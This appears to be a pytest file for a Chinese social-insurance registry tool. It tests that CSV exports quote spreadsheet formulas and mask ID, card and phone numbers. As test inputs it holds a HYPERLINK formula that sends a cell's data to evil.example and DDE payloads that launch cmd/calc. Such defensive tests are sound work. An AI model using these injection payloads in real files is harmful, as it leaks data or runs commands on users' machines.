"""Safe files out (issue 16 item 7): no spreadsheet formulas, no ID/card/phone numbers in rejects."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shebao.core.safefiles import (
    FORMULA_STARTS,
    SafeDictWriter,
    mask_personal,
    neutralise,
    restore,
    safe_writer,
)
from tests.registry.builders import LI, ZHANG, ZHANG_CARD, basic_folder, write_folder

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


@pytest.mark.parametrize("value", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1",
                                   "-", "=", "+x", "-cmd"])
def test_cells_a_spreadsheet_would_run_are_quoted(value) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["-12.50", "+3", "-0.01", "12.50", "-1e3", "2026-01", "张三明", "", "P1"])
def test_plain_numbers_and_text_are_left_alone(value) -> None:
    assert neutralise(value) == value == restore(value)


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "1", ".", "王"]), max_size=6))
def test_restore_undoes_neutralise(value) -> None:
    written = neutralise(value)
    assert restore(written) == value
    assert not written or written[0] not in FORMULA_STARTS or restore(written) == written  # a number


def test_writers_neutralise_every_cell(tmp_path) -> None:
    path = tmp_path / "x.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        safe_writer(fh).writerow(["P1", FORMULA, "-12.50"])
        writer = SafeDictWriter(fh, fieldnames=["a", "b"])
        writer.writerow({"a": "@x", "b": "-3"})
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows == [["P1", "'" + FORMULA, "-12.50"], ["'@x", "-3"]]


@pytest.mark.parametrize(("text", "hidden"), [
    (ZHANG, ZHANG), (f"身份证 {ZHANG} 有误", ZHANG), ("13812345678", "13812345678"),
    ("+86 138 1234 5678", "1234"), ("卡号 6222 0212 3456 7890 128", "0212 3456"), (ZHANG_CARD, ZHANG_CARD[:12]),
])
def test_personal_identifiers_are_masked_in_any_text(text, hidden) -> None:
    masked = mask_personal(text)
    assert hidden not in masked and "*" in masked


@pytest.mark.parametrize("text", ["2026-01-15", "第 12 行", "3210.55", "P000000001", "2026-10-31 至 2026-11-30"])
def test_ordinary_values_are_not_masked(text) -> None:
    assert mask_personal(text) == text


# --- the product's files -------------------------------------------------------------------------

def test_export_quotes_formulas_and_load_gives_them_back(db, tmp_path) -> None:
    from shebao.core.db import session_scope
    from shebao.registry.exporter import export_folder
    from shebao.registry.loader import load_folder
    from shebao.registry.models import Employer, Person

    data = basic_folder()
    data["persons"][0]["name"] = "=1+2"
    data["employers"][0]["name"] = FORMULA
    summary = load_folder(write_folder(tmp_path / "in", data))
    assert sum(summary.rejected.values()) == 0, summary.rejected
    out = tmp_path / "out"
    with session_scope() as s:
        export_folder(s, out)
    persons = list(csv.DictReader((out / "persons.csv").open(encoding="utf-8", newline="")))
    employers = list(csv.DictReader((out / "employers.csv").open(encoding="utf-8", newline="")))
    assert persons[0]["name"] == "'=1+2" and employers[0]["name"] == "'" + FORMULA
    raw = "".join(p.read_text(encoding="utf-8") for p in out.glob("*.csv"))
    for line in raw.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell or cell[0] not in "=+@\t\r" or cell.lstrip("+-").replace(".", "").isdigit(), cell

    again = load_folder(out)  # the export loads back: same values, nothing changed, nothing rejected
    assert sum(again.rejected.values()) == 0
    with session_scope() as s:
        assert s.get(Person, "P1").name == "=1+2"
        assert s.query(Employer).one().name == FORMULA


def test_rejects_report_masks_identifiers_in_any_column_and_quotes_formulas(db, tmp_path) -> None:
    from shebao.registry.loader import load_folder

    data = basic_folder()
    data["persons"][0]["birth_date"] = ZHANG            # an ID number in the wrong column
    data["persons"][1]["region_code"] = "=cmd|'/C calc'!A0"
    data["employers"][0]["industry_code"] = "13812345678"   # a phone number where it does not belong
    summary = load_folder(write_folder(tmp_path / "in", data))
    assert summary.rejects_file is not None
    from pathlib import Path

    report = Path(summary.rejects_file)
    text = report.read_text(encoding="utf-8")
    assert ZHANG not in text and LI not in text and "13812345678" not in text
    rows = list(csv.DictReader(report.open(encoding="utf-8", newline="")))
    assert any(r["field"] == "birth_date" and r["value"].startswith("370502") and "*" in r["value"] for r in rows)
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", row


def test_alerts_csv_quotes_formulas(tmp_path) -> None:
    from shebao.risk.screening import OUTPUT_COLUMNS, read_alerts_csv

    path = tmp_path / "alerts.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = SafeDictWriter(fh, fieldnames=OUTPUT_COLUMNS)
        writer.writeheader()
        writer.writerow({c: ("@evil" if c == "evidence" else "-5.00") for c in OUTPUT_COLUMNS})
    row = read_alerts_csv(path)[0]
    assert row["evidence"] == "'@evil"


def test_no_csv_writer_bypasses_the_helper() -> None:
    """Every CSV the product writes goes through shebao.core.safefiles (the synthetic generator excepted)."""
    import re
    from pathlib import Path

    package = Path(__file__).resolve().parents[2] / "shebao"
    raw = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|to_excel\(|openpyxl|xlsxwriter")
    offenders = [str(p.relative_to(package)) for p in package.rglob("*.py")
                 if p.name != "safefiles.py" and "synth" not in p.parts and raw.search(p.read_text(encoding="utf-8"))]
    assert offenders == [], f"这些文件自己写 CSV/Excel，应改用 shebao.core.safefiles：{offenders}"
